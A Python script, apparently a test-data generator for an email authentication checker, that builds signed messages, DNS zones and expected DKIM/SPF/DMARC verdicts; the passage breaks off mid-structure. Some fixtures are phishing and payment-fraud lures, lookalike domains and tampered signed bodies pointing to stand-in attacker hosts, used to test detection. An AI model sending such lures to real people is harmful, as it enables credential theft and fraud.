#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""Writes the stories of testdata/: message.eml (or .mbox), dns.zone, README, options, truth.json.

usage: tests/make-stories.py [STORY]...

Messages are signed with python3-dkim and the keys in testdata/keys/, never by our own canonicaliser, so that a wrong
canonicaliser can't agree with itself. Everything is fixed (times, ids, keys): a second run writes the same bytes.
truth.json says by hand what is true of the story; tests/cli/test_stories.py holds the program to it. The expected output
(expected.txt, expected.json) is written by that test with MAILCHECK_UPDATE=1, and is to be read before it is committed.
"""
import base64, json, os, subprocess, sys, types
import dkim

ROOT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), 'testdata')
KEYS = os.path.join(ROOT, 'keys')
NOW = 1794301964  # 2026-11-10 09:12:44 UTC: when mx.recipient.example receives
MX = 'mx.recipient.example'
ALICE = 'alice@recipient.example'
dkim.time = types.SimpleNamespace(time=lambda: NOW - 60)

def day(t, zone='+0000'):
    import datetime
    sign = -1 if zone[0] == '-' else 1
    shift = sign * (int(zone[1:3]) * 3600 + int(zone[3:5]) * 60)
    return datetime.datetime.fromtimestamp(t + shift, datetime.timezone.utc).strftime('%a, %-d %b %Y %H:%M:%S ') + zone

def public(name):
    """p= of a key of testdata/keys"""
    if name == 'ed25519':
        from nacl.signing import SigningKey
        seed = base64.b64decode(open(KEYS + '/ed25519.seed').read())
        return base64.b64encode(bytes(SigningKey(seed).verify_key)).decode()
    der = subprocess.run(['openssl', 'rsa', '-in', KEYS + '/%s.pem' % name, '-pubout', '-outform', 'DER'],
                         capture_output=True, check=True).stdout
    return base64.b64encode(der).decode()

def key(selector, domain, name, tags='v=DKIM1; k=rsa; ', strings=255):
    text = tags + 'p=' + public(name)
    cut = [text[i:i + strings] for i in range(0, len(text), strings)]
    return '%s._domainkey.%s. IN TXT %s' % (selector, domain, ' '.join('"%s"' % c for c in cut))

def txt(name, text):
    return '%s. IN TXT "%s"' % (name, text)

def sign(message, domain, selector, name, headers=None, canon='relaxed/relaxed', length=False, identity=None):
    h = headers or ['from', 'to', 'subject', 'date', 'message-id', 'mime-version', 'content-type']
    h = [x for x in h if x.encode() in [l.split(b':')[0].lower() for l in message.split(b'\r\n\r\n')[0].split(b'\r\n')]] if not headers else h
    secret = (open(KEYS + '/ed25519.seed', 'rb').read().strip() if name == 'ed25519' else open(KEYS + '/%s.pem' % name, 'rb').read())
    c = canon.split('/')
    sig = dkim.sign(message, selector.encode(), domain.encode(), secret, identity=identity.encode() if identity else None,
                    canonicalize=(c[0].encode(), c[1].encode()), include_headers=[x.encode() for x in h], length=length,
                    signature_algorithm=b'ed25519-sha256' if name == 'ed25519' else b'rsa-sha256')
    return sig + message

def queue_id(t, n=0):
    """a long queue id as Postfix makes it: seconds and microseconds in base 52, "z", a number in base 51"""
    digits = '0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz'
    def text(value, places):
        out = ''
        while value or len(out) < places:
            out, value = digits[value % 52] + out, value // 52
        return out
    return text(t, 6) + text(123456 + n, 4) + 'z' + '1F' + 'B' * (n % 3 + 1)

def received(ip, helo, rdns=None, by=MX, at=NOW, to=ALICE, id=None, with_='ESMTPS'):
    id = id or queue_id(at, len(by))
    return ('Received: from %s (%s [%s])\r\n\tby %s (Postfix) with %s id %s\r\n\tfor <%s>; %s (UTC)\r\n'
            % (helo, rdns or helo, ip, by, with_, id, to, day(at))).encode()

def mail(from_, subject, body, to='Alice Adams <%s>' % ALICE, at=NOW - 60, mid=None, extra=(), ctype='text/plain; charset=utf-8'):
    domain = from_.rsplit('@', 1)[1].strip('> ')
    head = ['From: ' + from_, 'To: ' + to, 'Subject: ' + subject, 'Date: ' + day(at), 'Message-ID: <%s@%s>' % (mid or '20261110.%d' % len(subject), domain)]
    head += ['MIME-Version: 1.0', 'Content-Type: ' + ctype] + list(extra)
    return ('\r\n'.join(head) + '\r\n\r\n').encode() + body.replace('\n', '\r\n').encode()

def path(sender):
    return ('Return-Path: <%s>\r\n' % sender).encode()

STORIES = {}
TRUST = ['--trust ' + MX]

def story(name, readme, message, zone, truth, options=TRUST, complete=True, file='message.eml'):
    assert name not in STORIES
    lines = ['; %s' % readme.split('. ')[0].rstrip('.')]
    lines += [';@ complete'] if complete else []
    lines += [';@ recorded 2026-11-10T09:15:00Z 192.0.2.53'] + zone
    STORIES[name] = {'README': readme + '\n', 'dns.zone': '\n'.join(lines) + '\n', file: message,
                     'options': '\n'.join(options) + '\n', 'truth.json': json.dumps(truth, indent=1) + '\n'}

TEXT = 'Dear Alice,\n\nthe statement for October is ready. You find it in the customer area,\nwhere you are used to find it.\n\nKind regards\nBank Example\n'
BANK = [txt('bank.example', 'v=spf1 ip4:192.0.2.10 -all'), txt('_dmarc.bank.example', 'v=DMARC1; p=reject; rua=mailto:dmarc@bank.example'),
        key('s2026', 'bank.example', 'bank')]
MXZONE = ['recipient.example. IN MX 10 %s.' % MX, '%s. IN A 203.0.113.25' % MX]

def bank(subject='Your statement for October', body=TEXT, **kw):
    return mail('Bank Example <service@bank.example>', subject, body, **kw)

def simple_stories():
    m = mail('Shop News <news@shop.example>', 'New in November', 'Hello Alice,\n\nwarm socks are here.\n\nYour shop\n')
    story('envelope-differs-honest', 'A newsletter is sent by a service with its own envelope sender, and signed for the shop. From and envelope differ, and nothing is wrong: DKIM is aligned.',
          path('b-4711@bounce.sender.example') + received('198.51.100.20', 'out7.sender.example') + sign(m, 'shop.example', 's1', 'shop'),
          MXZONE + [key('s1', 'shop.example', 'shop'), txt('_dmarc.shop.example', 'v=DMARC1; p=quarantine'), txt('bounce.sender.example', 'v=spf1 ip4:198.51.100.0/24 -all')],
          {'author': 'proven', 'dkim': [['shop.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'mail_from': 'b-4711@bounce.sender.example', 'client_ip': '198.51.100.20', 'most': 'low'})

    m = bank('Your account is limited', 'Dear customer,\n\nconfirm your password at http://login.attack.example/bank or lose access.\n')
    story('forged-from-attacker-passes', 'The attacker puts the bank into From and lets his own DKIM and SPF pass. Nothing that passes belongs to the bank: alignment fails.',
          path('x@attack.example') + received('198.51.100.66', 'mail.attack.example') + sign(m, 'attack.example', 'a', 'attack'),
          MXZONE + BANK + [key('a', 'attack.example', 'attack'), txt('attack.example', 'v=spf1 ip4:198.51.100.66 -all'), txt('_dmarc.attack.example', 'v=DMARC1; p=reject')],
          {'author': 'contradicted', 'dkim': [['attack.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'fail', 'policy': 'reject', 'codes': ['AUTH-DMARC-FAIL']})

    m = mail('Club <info@club.example>', 'Meeting on Thursday', 'Hello,\n\nwe meet at eight.\n')
    story('spf-only-aligned', 'An unsigned message from a host that the domain authorises, with an envelope of the same domain. SPF alone proves the sender.',
          path('info@club.example') + received('192.0.2.77', 'mail.club.example') + m,
          MXZONE + [txt('club.example', 'v=spf1 ip4:192.0.2.77 -all'), txt('_dmarc.club.example', 'v=DMARC1; p=none')],
          {'author': 'proven', 'dkim': [], 'spf': 'pass', 'dmarc': 'pass', 'policy': 'none'})

    m = sign(bank(), 'bank.example', 's2026', 'bank')
    fwd = received('192.0.2.10', 'mail.bank.example', by='mail.alumni.example', at=NOW - 30, to='alice@alumni.example')
    story('forward-breaks-spf', 'An alumni address forwards the bank\'s mail and keeps the envelope sender. SPF fails for the forwarder\'s host; the signature survives and proves the bank.',
          path('service@bank.example') + received('203.0.113.80', 'mail.alumni.example') + fwd + m,
          MXZONE + BANK, {'author': 'proven', 'dkim': [['bank.example', 'pass', None]], 'spf': 'fail', 'dmarc': 'pass', 'client_ip': '203.0.113.80'})

    srs = 'SRS0=HHH=TT=bank.example=service@alumni.example'
    story('forward-srs', 'The same forwarder rewrites the envelope sender (SRS). SPF passes, for the forwarder; the bank is proven by its signature.',
          path(srs) + received('203.0.113.80', 'mail.alumni.example') + fwd + m,
          MXZONE + BANK + [txt('alumni.example', 'v=spf1 ip4:203.0.113.80 -all')],
          {'author': 'proven', 'dkim': [['bank.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'mail_from': srs})

    story('dkim-body-changed', 'One amount in the body was changed after signing. The signature still verifies over the header; the hash of the body does not.',
          path('pay@bank.example') + received('198.51.100.66', 'mx.relay.example') + sign(bank('Payment order', 'Please pay EUR 120.00 to IBAN DE00 1234.\n'), 'bank.example', 's2026', 'bank').replace(b'EUR 120.00', b'EUR 912.00'),
          MXZONE + BANK, {'author': 'contradicted', 'dkim': [['bank.example', 'fail', 'body-changed']], 'signature': ['valid'], 'body_hash': ['mismatch'], 'spf': 'fail', 'dmarc': 'fail', 'codes': ['DKIM-FAIL-BODY', 'AUTH-DMARC-FAIL']})

    story('dkim-header-changed', 'The subject was changed after signing. The key did make this signature, but over another header; the body is untouched.',
          path('pay@bank.example') + received('198.51.100.66', 'mx.relay.example') + sign(bank('Your statement'), 'bank.example', 's2026', 'bank').replace(b'Subject: Your statement', b'Subject: Your account will be closed'),
          MXZONE + BANK, {'author': 'contradicted', 'dkim': [['bank.example', 'fail', 'header-changed']], 'signature': ['invalid'], 'body_hash': ['match'], 'dmarc': 'fail', 'codes': ['DKIM-FAIL-SIG']})

    story('dkim-wrong-key', 'Somebody signs in the name of the bank with a key of his own. The published key did not make this signature.',
          path('pay@bank.example') + received('198.51.100.66', 'mail.attack.example') + sign(bank(), 'bank.example', 's2026', 'attack'),
          MXZONE + BANK, {'author': 'contradicted', 'dkim': [['bank.example', 'fail', 'wrong-key']], 'signature': ['wrong-key'], 'body_hash': ['match'], 'dmarc': 'fail'})

    story('dkim-key-revoked', 'The key was revoked (an empty p=) since the message was signed. The signature proves nothing any more.',
          path('news@shop.example') + received('192.0.2.30', 'mail.shop.example') + sign(mail('Shop <news@shop.example>', 'Old news', 'Hello.\n'), 'shop.example', 'old', 'old'),
          MXZONE + [txt('old._domainkey.shop.example', 'v=DKIM1; p='), txt('shop.example', 'v=spf1 ip4:192.0.2.31 ~all'), txt('_dmarc.shop.example', 'v=DMARC1; p=none')],
          {'author': 'unproven', 'dkim': [['shop.example', 'permerror', 'key-revoked']], 'spf': 'softfail', 'dmarc': 'fail', 'codes': ['KEY-REVOKED']})

    story('dkim-key-no-version', 'The key record has no v= tag, as the standard allows. The signature verifies all the same.',
          path('news@shop.example') + received('192.0.2.30', 'mail.shop.example') + sign(mail('Shop <news@shop.example>', 'News', 'Hello.\n'), 'shop.example', 'nov', 'shop', canon='simple/simple'),
          MXZONE + [key('nov', 'shop.example', 'shop', tags='k=rsa; '), txt('shop.example', 'v=spf1 ip4:192.0.2.30 -all'), txt('_dmarc.shop.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [['shop.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'most': 'low'})

    story('dkim-key-split', 'The key record is split into strings of 100 bytes, one of them in the middle of p=. They are joined without a space.',
          path('news@shop.example') + received('192.0.2.30', 'mail.shop.example') + sign(mail('Shop <news@shop.example>', 'More news', 'Hello again.\n'), 'shop.example', 'split', 'shop', canon='relaxed/simple'),
          MXZONE + [key('split', 'shop.example', 'shop', strings=100), txt('shop.example', 'v=spf1 ip4:192.0.2.30 -all'), txt('_dmarc.shop.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [['shop.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass'})

    m = bank('Two signatures')
    story('dkim-two-algorithms', 'The message carries an RSA and an Ed25519 signature of the same domain. Both verify.',
          path('service@bank.example') + received('192.0.2.10', 'mail.bank.example') + sign(sign(m, 'bank.example', 's2026', 'bank'), 'bank.example', 'ed', 'ed25519'),
          MXZONE + BANK + [key('ed', 'bank.example', 'ed25519', tags='v=DKIM1; k=ed25519; ')],
          {'author': 'proven', 'dkim': [['bank.example', 'pass', None], ['bank.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'most': 'low'})

def dmarc_stories():
    m = mail('Shop <orders@shop.example>', 'Order 4711', 'Thank you for your order.\n')
    signed = sign(m, 'mailer.shop.example', 's1', 'shop')
    zone = MXZONE + [key('s1', 'mailer.shop.example', 'shop'), txt('mailer.shop.example', 'v=spf1 ip4:192.0.2.40 -all')]
    head = path('b@mailer.shop.example') + received('192.0.2.40', 'mailer.shop.example')
    story('dmarc-strict-subdomain', 'A subdomain signs and sends for the shop, whose policy asks for strict alignment of both. The organisation is the same, the names are not: DMARC fails.',
          head + signed, zone + [txt('_dmarc.shop.example', 'v=DMARC1; p=reject; adkim=s; aspf=s')],
          {'author': 'contradicted', 'dkim': [['mailer.shop.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'fail', 'policy': 'reject', 'org_domain': 'shop.example'})
    story('dmarc-relaxed-subdomain', 'The same message under a policy with relaxed alignment. The organisation is the same, and DMARC passes.',
          head + signed, zone + [txt('_dmarc.shop.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [['mailer.shop.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'policy': 'reject', 'org_domain': 'shop.example'})
    m = mail('Payroll <pay@hr.corp.example>', 'Your salary account', 'Please confirm your bank account.\n')
    story('dmarc-subdomain-policy', 'From names a subdomain without a record of its own. The organisation\'s record says p=none but sp=quarantine, and sp applies.',
          path('x@attack.example') + received('198.51.100.66', 'mail.attack.example') + m,
          MXZONE + [txt('_dmarc.corp.example', 'v=DMARC1; p=none; sp=quarantine'), 'hr.corp.example. IN A 192.0.2.60', 'corp.example. IN A 192.0.2.60', txt('attack.example', 'v=spf1 ip4:198.51.100.66 -all')],
          {'author': 'contradicted', 'dkim': [], 'spf': 'pass', 'dmarc': 'fail', 'policy': 'quarantine', 'policy_tag': 'sp', 'org_domain': 'corp.example'})
    for policy, author in (('none', 'unproven'), ('quarantine', 'contradicted'), ('reject', 'contradicted')):
        m = mail('Corp <ceo@corp.example>', 'Are you at your desk?', 'I need a favour. Answer here.\n', extra=['Reply-To: ceo.corp@freemail.example'])
        story('dmarc-policy-' + policy, 'An unsigned message in the name of a company whose policy is p=%s, from a host that it does not name. What the domain asks for differs by the policy, what is proven does not.' % policy,
              path('ceo@corp.example') + received('198.51.100.66', 'vps66.hosting.example') + m,
              MXZONE + [txt('corp.example', 'v=spf1 ip4:192.0.2.60 -all'), txt('_dmarc.corp.example', 'v=DMARC1; p=' + policy)],
              {'author': author, 'dkim': [], 'spf': 'fail', 'dmarc': 'fail', 'policy': policy, 'disposition': policy})

def spf_stories():
    m = mail('Parking <info@parked.example>', 'Invoice', 'See attached.\n')
    story('spf-never-sends', 'The domain publishes an empty SPF record: it never sends mail. Whoever sends in its name is not it.',
          path('info@parked.example') + received('198.51.100.66', 'mail.attack.example') + m,
          MXZONE + [txt('parked.example', 'v=spf1 -all'), txt('_dmarc.parked.example', 'v=DMARC1; p=reject')],
          {'author': 'contradicted', 'dkim': [], 'spf': 'fail', 'dmarc': 'fail', 'codes': ['SPF-FAIL']})
    m = mail('Office <office@school.example>', 'Timetable', 'The new timetable is out.\n')
    story('spf-by-mx', 'The sender is authorised through the mx mechanism only. Its address is that of the second mail exchanger.',
          path('office@school.example') + received('192.0.2.92', 'mx2.school.example') + m,
          MXZONE + [txt('school.example', 'v=spf1 mx -all'), 'school.example. IN MX 10 mx1.school.example.', 'school.example. IN MX 20 mx2.school.example.',
                    'mx1.school.example. IN A 192.0.2.91', 'mx2.school.example. IN A 192.0.2.92', txt('_dmarc.school.example', 'v=DMARC1; p=none')],
          {'author': 'proven', 'dkim': [], 'spf': 'pass', 'dmarc': 'pass', 'mechanism': 'mx'})
    m = mail('Tickets <tickets@travel.example>', 'Your ticket', 'Seat 11, coach 3.\n')
    story('spf-nested-includes', 'The sender is authorised by an include inside an include. Three records are read for one answer.',
          path('tickets@travel.example') + received('203.0.113.140', 'out1.delivery.example') + m,
          MXZONE + [txt('travel.example', 'v=spf1 ip4:192.0.2.5 include:_spf.mailer.example -all'), txt('_spf.mailer.example', 'v=spf1 include:_net.delivery.example ~all'),
                    txt('_net.delivery.example', 'v=spf1 ip4:203.0.113.128/26 ~all'), txt('_dmarc.travel.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [], 'spf': 'pass', 'dmarc': 'pass', 'lookups': 2})
    m = mail('Club <info@club.example>', 'Please update your data', 'Hello,\n\nanswer with your date of birth.\n')
    story('spf-softfail', 'The record ends in ~all, and the client is not in it. The domain only says that this is probably not its host.',
          path('info@club.example') + received('198.51.100.66', 'mail.attack.example') + m,
          MXZONE + [txt('club.example', 'v=spf1 ip4:192.0.2.77 ~all'), txt('_dmarc.club.example', 'v=DMARC1; p=none')],
          {'author': 'unproven', 'dkim': [], 'spf': 'softfail', 'dmarc': 'fail', 'codes': ['SPF-SOFTFAIL']})

def trace_stories():
    m = sign(mail('Bank Example <service@bank-examp1e.example>', 'Security notice', 'Dear Alice,\n\nconfirm your login: https://bank-examp1e.example/login\n'), 'bank-examp1e.example', 'k', 'attack')
    story('lookalike-all-pass', 'A domain that looks like the bank\'s (a digit 1 for the letter l) sends its own mail with everything in order. DKIM, SPF and DMARC pass and prove the wrong name.',
          path('service@bank-examp1e.example') + received('198.51.100.66', 'mail.bank-examp1e.example') + m,
          MXZONE + [key('k', 'bank-examp1e.example', 'attack'), txt('bank-examp1e.example', 'v=spf1 ip4:198.51.100.66 -all'), txt('_dmarc.bank-examp1e.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [['bank-examp1e.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'least': 'high'}, options=TRUST + ['--protect bank-example.example'])

    m = mail('Theatre <box@theatre.example>', 'Your seats', 'Row 4, seats 11 and 12.\n')
    exim = ('Received: from [192.0.2.120] (helo=mail.theatre.example)\r\n\tby %s with esmtps (TLS1.3) tls TLS_AES_256_GCM_SHA384\r\n\t(Exim 4.96)\r\n\t(envelope-from <box@theatre.example>)\r\n\tid 1vIxyz-0003Ab-2k\r\n\tfor %s; %s\r\n' % (MX, ALICE, day(NOW))).encode()
    story('exim-envelope-from', 'There is no Return-Path, but Exim wrote the envelope sender into its Received field. SPF is checked with it.',
          exim + m, MXZONE + [txt('theatre.example', 'v=spf1 ip4:192.0.2.120 -all'), txt('_dmarc.theatre.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [], 'spf': 'pass', 'dmarc': 'pass', 'mail_from': 'box@theatre.example', 'client_ip': '192.0.2.120', 'helo': 'mail.theatre.example'})

    m = sign(mail('Corp <dave@corp.example>', 'Contract', 'The contract is in the usual place.\n'), 'corp.example', 'c1', 'corp')
    m = m.replace(b'usual place', b'new place: http://files.attack.example/')
    ar = ('Authentication-Results: spf=pass (sender IP is 192.0.2.60)\r\n smtp.mailfrom=corp.example; dkim=pass (signature was verified)\r\n header.d=corp.example;dmarc=pass action=none\r\n header.from=corp.example;compauth=pass reason=100\r\n').encode()
    story('microsoft-results-contradicted', 'A field in Microsoft\'s order claims that all passed, but no host of ours wrote it. Verified again, the body has changed and the client is not the company\'s.',
          path('dave@corp.example') + received('198.51.100.66', 'mail.attack.example') + ar + m,
          MXZONE + [key('c1', 'corp.example', 'corp'), txt('corp.example', 'v=spf1 ip4:192.0.2.60 -all'), txt('_dmarc.corp.example', 'v=DMARC1; p=reject')],
          {'author': 'contradicted', 'dkim': [['corp.example', 'fail', 'body-changed']], 'spf': 'fail', 'dmarc': 'fail', 'recorded': ['spf=pass', 'dkim=pass', 'dmarc=pass', 'compauth=pass'], 'disagree': ['dkim', 'dmarc']})

    story('no-received', 'A message without any Received field, as a sent folder or a draft has it. The signature can be checked; where it came from can\'t.',
          sign(bank('From the archive'), 'bank.example', 's2026', 'bank'), MXZONE + BANK,
          {'author': 'proven', 'dkim': [['bank.example', 'pass', None]], 'spf': 'none', 'dmarc': 'pass', 'client_ip': None, 'codes': ['RCV-NONE']}, options=[])

    one = path('service@bank.example') + received('192.0.2.10', 'mail.bank.example') + sign(bank('First of three'), 'bank.example', 's2026', 'bank')
    two = path('info@club.example') + received('192.0.2.77', 'mail.club.example') + mail('Club <info@club.example>', 'Second of three', 'Minutes:\n\nFrom here on we meet at nine.\n')
    three = path('x@attack.example') + received('198.51.100.66', 'mail.attack.example') + bank('Third of three', 'Send money.\n')
    mbox = b''
    for sender, m in (('service@bank.example', one), ('info@club.example', two), ('x@attack.example', three)):
        mbox += ('From %s Tue Nov 10 09:12:44 2026\n' % sender).encode() + m.replace(b'\r\n', b'\n') + b'\n'
    story('mbox-of-three', 'An mbox with three messages: proven by DKIM, proven by SPF, and forged. A line of a body begins with "From " and splits nothing.',
          mbox, MXZONE + BANK + [txt('club.example', 'v=spf1 ip4:192.0.2.77 -all'), txt('_dmarc.club.example', 'v=DMARC1; p=none'), txt('attack.example', 'v=spf1 ip4:198.51.100.66 -all')],
          [{'author': 'proven', 'dkim': [['bank.example', 'pass', None]]}, {'author': 'proven', 'dkim': [], 'spf': 'pass'}, {'author': 'contradicted', 'dkim': [], 'spf': 'pass', 'dmarc': 'fail'}],
          file='message.mbox')

    story('not-recorded', 'The snapshot holds neither the key nor the policy, and does not claim to be complete. Nothing is taken for absent: the result is unknown, and the report lists what to collect.',
          path('service@bank.example') + received('192.0.2.10', 'mail.bank.example') + sign(bank('Which key?'), 'bank.example', 's2026', 'bank'),
          ['other.example. IN A 192.0.2.1'], {'author': 'unknown', 'dkim': [['bank.example', 'temperror', 'not-recorded']], 'spf': 'temperror', 'dmarc': 'temperror', 'complete': False, 'missing': ['s2026._domainkey.bank.example', '_dmarc.bank.example', 'bank.example']}, complete=False)

def exim_time(t):
    """six digits in base 62, as Exim begins its message ids"""
    digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
    return ''.join(digits[t // 62 ** n % 62] for n in range(5, -1, -1))

def filetime(t):
    return (t + 11644473600) * 10 ** 7

def thread_index(began, answered):
    """a conversation index with one answer, in the layout with 48 bits of FILETIME"""
    header = filetime(began) >> 16
    delta = (filetime(answered) - (header << 16)) >> 18
    return base64.b64encode(header.to_bytes(6, 'big') + bytes(range(16)) + delta.to_bytes(4, 'big') + b'\0').decode()

def way_story():
    store = 'store.recipient.example'
    boundary = '=_%d_17' % (NOW - 90)
    event = 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Corp//Calendar//EN\r\nMETHOD:PUBLISH\r\nBEGIN:VEVENT\r\nUID:17@corp.example\r\nDTSTAMP:20261110T090500Z\r\nDTSTART:20261117T090000Z\r\nSUMMARY:Review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
    plan = b'%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /CreationDate (D:20261101080000Z) >>\nendobj\ntrailer\n<< /Root 1 0 R /Info 3 0 R >>\n%%EOF\n'
    part = lambda head, body: '--%s\n%s\n\n%s\n' % (boundary, head, body)
    body = (part('Content-Type: text/plain; charset=utf-8', 'Alice,\n\nthe plan and the date of the review are attached.\n\nDave')
            + part('Content-Type: text/calendar; charset=utf-8; method=PUBLISH\nContent-Transfer-Encoding: base64', base64.b64encode(event.encode()).decode())
            + part('Content-Type: application/pdf; name="plan.pdf"\nContent-Disposition: attachment; filename="plan.pdf"\nContent-Transfer-Encoding: base64', base64.b64encode(plan).decode())
            + '--%s--\n' % boundary)
    m = sign(mail('Dave <dave@corp.example>', 'Re: Review', body, mid='20261110091113.%s' % queue_id(NOW - 91), ctype='multipart/mixed; boundary="%s"' % boundary,
                  extra=['Sender: Front Office <office@corp.example>', 'Reply-To: dave@review.corp.example', 'In-Reply-To: <17@recipient.example>',
                         'Thread-Index: ' + thread_index(NOW - 86400, NOW - 600), 'User-Agent: Alpine 2.26 (LSU 649 2022-06-02)']), 'corp.example', 'c1', 'corp')
    laptop = ('Received: from laptop ([10.0.0.5])\r\n\tby relay.corp.example with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\r\n\t(Exim 4.96)\r\n\t(envelope-from <dave@corp.example>)\r\n\tid %s-000012-0A\r\n\tfor %s; %s\r\n' % (exim_time(NOW + 3600), ALICE, day(NOW + 3600, '+0100'))).encode()
    gateway = ('Received: from relay.corp.example (192.0.2.61) by mail.corp.example with SMTP; %s\r\n' % day(NOW - 30)).encode()
    entry = received('192.0.2.60', 'mail.corp.example')
    inside = ('Received: from %s (%s [203.0.113.25])\r\n\tby %s (Dovecot) with LMTP id 1F2\r\n\tfor <%s>; %s\r\n' % (MX, MX, store, ALICE, day(NOW + 1))).encode()
    story('way-and-clocks', 'Everything that the way and the clocks tell, with --all: two hosts of the recipient, the border behind them, a relay whose clock is an hour ahead and a hop that was not encrypted; the times inside identifiers, an answer\'s index, a calendar part and the mail program\'s name; the identities side by side; MX, MTA-STS and TLS reports of the recipient.',
          path('dave@corp.example') + ('Delivered-To: %s\r\nX-Original-To: sales@recipient.example\r\n' % ALICE).encode() + inside + entry + gateway + laptop + m,
          MXZONE + [txt('_mta-sts.recipient.example', 'v=STSv1; id=20261101T000000;'), txt('_smtp._tls.recipient.example', 'v=TLSRPTv1; rua=mailto:tls@recipient.example'),
                    key('c1', 'corp.example', 'corp'), txt('corp.example', 'v=spf1 ip4:192.0.2.60 -all'), txt('_dmarc.corp.example', 'v=DMARC1; p=reject')],
          {'author': 'proven', 'dkim': [['corp.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'client_ip': '192.0.2.60', 'helo': 'mail.corp.example', 'mail_from': 'dave@corp.example',
           'codes': ['RCV-BELOW-BORDER', 'RCV-TIME-BACK']}, options=['--trust .recipient.example', '--all'])

def change_stories():
    m = sign(mail('Dave <dave@corp.example>', 'Release on Friday', 'Hello all,\n\nshall we release on Friday?\n\nDave\n', to='users@lists.example'), 'corp.example', 'c1', 'corp')
    footer = b'_______________________________________________\r\nusers mailing list\r\nusers@lists.example\r\nhttps://lists.example/mailman/listinfo/users\r\n'
    m = m.replace(b'Subject: Release', b'Subject: [users] Release') + footer
    m = b'Sender: users-bounces@lists.example\r\nList-Id: <users.lists.example>\r\nList-Post: <mailto:users@lists.example>\r\nPrecedence: list\r\n' + m
    m = sign(m, 'lists.example', 'l1', 'lists', headers=['from', 'to', 'subject', 'date', 'message-id', 'list-id', 'sender'])
    story('list-changed', 'A mailing list puts its name into the subject and its footer under the text, which breaks the author\'s signature. Without both it verifies: what Dave wrote is proven, and what the list added is shown.',
          path('users-bounces@lists.example') + received('203.0.113.50', 'mail.lists.example') + received('192.0.2.60', 'mail.corp.example', by='mail.lists.example', at=NOW - 40, to='users@lists.example') + m,
          MXZONE + [key('c1', 'corp.example', 'corp'), key('l1', 'lists.example', 'lists'), txt('_dmarc.corp.example', 'v=DMARC1; p=reject'), txt('corp.example', 'v=spf1 ip4:192.0.2.60 -all'), txt('lists.example', 'v=spf1 ip4:203.0.113.50 -all')],
          {'author': 'unproven', 'dkim': [['lists.example', 'pass', None], ['corp.example', 'fail', 'both-changed']], 'spf': 'pass', 'dmarc': 'fail', 'most': 'low', 'codes': ['CTX-LIST'], 'repaired': ['corp.example']})

    m = sign(bank('Statement', 'Dear Alice,\n\nyour statement is ready.\n'), 'bank.example', 's2026', 'bank')
    m = m.replace(b'\r\n\r\nDear', b'\r\n\r\nCAUTION: This message came from outside the organisation.\r\n\r\nDear')
    story('gateway-banner', 'A gateway of the recipient puts a warning above the text, which breaks the signature. Without the banner the signature verifies.',
          path('service@bank.example') + received('192.0.2.10', 'mail.bank.example') + m, MXZONE + BANK,
          {'dkim': [['bank.example', 'fail', 'body-changed']], 'spf': 'pass', 'dmarc': 'pass', 'author': 'proven', 'repaired': ['bank.example']})

    m = sign(bank('Your statement', TEXT), 'bank.example', 's2026', 'bank', length=True)
    m += b'\r\nP.S. Our account has changed: pay to http://pay.attack.example/ from now on.\r\n'
    story('body-length-appended', 'The signature has a body length (l=), and something was written behind it. The signature passes, and the last paragraph is anybody\'s.',
          path('service@bank.example') + received('198.51.100.66', 'mail.attack.example') + m, MXZONE + BANK,
          {'author': 'partial', 'dkim': [['bank.example', 'pass', '*']], 'spf': 'fail', 'dmarc': 'pass', 'codes': ['DKIM-L-APPENDED'], 'least': 'critical'})

def attached_stories():
    proven = sign(bank(), 'bank.example', 's2026', 'bank')
    phish = (path('service@bank.example') + received('192.0.2.10', 'mail.bank.example')
             + b'Subject: Your account is closed\r\n'
             + mail('Bank Example <service@bank.example>', 'Your account', '<p>Confirm at <a href="http://login.attack.example/">https://www.bank.example/</a> today.</p>\n', ctype='text/html'))
    body = ('--=_outer\nContent-Type: text/plain\n\nTwo messages came today. The second looks odd.\n\nDave\n'
            '--=_outer\nContent-Type: message/rfc822\n\n' + proven.decode().replace('\r\n', '\n')
            + '\n--=_outer\nContent-Type: application/octet-stream; name="odd.eml"\nContent-Disposition: attachment; filename="odd.eml"\nContent-Transfer-Encoding: base64\n\n'
            + base64.encodebytes(phish).decode() + '--=_outer--\n')
    m = sign(mail('Dave <dave@corp.example>', 'Is this from our bank?', body, ctype='multipart/mixed; boundary="=_outer"'), 'corp.example', 'c1', 'corp')
    story('attached-messages', 'A colleague reports two messages as attachments. His own is proven and quiet; the attached ones are judged by themselves: the first is proven by its signature, the second claims a way through our own host that nobody saw it take.',
          path('dave@corp.example') + received('192.0.2.60', 'mail.corp.example') + m,
          MXZONE + BANK + [key('c1', 'corp.example', 'corp'), txt('_dmarc.corp.example', 'v=DMARC1; p=reject'), txt('corp.example', 'v=spf1 ip4:192.0.2.60 -all')],
          [{'author': 'proven', 'dkim': [['corp.example', 'pass', None]], 'spf': 'pass', 'dmarc': 'pass', 'most': 'low', 'codes': ['ATT-EML']},
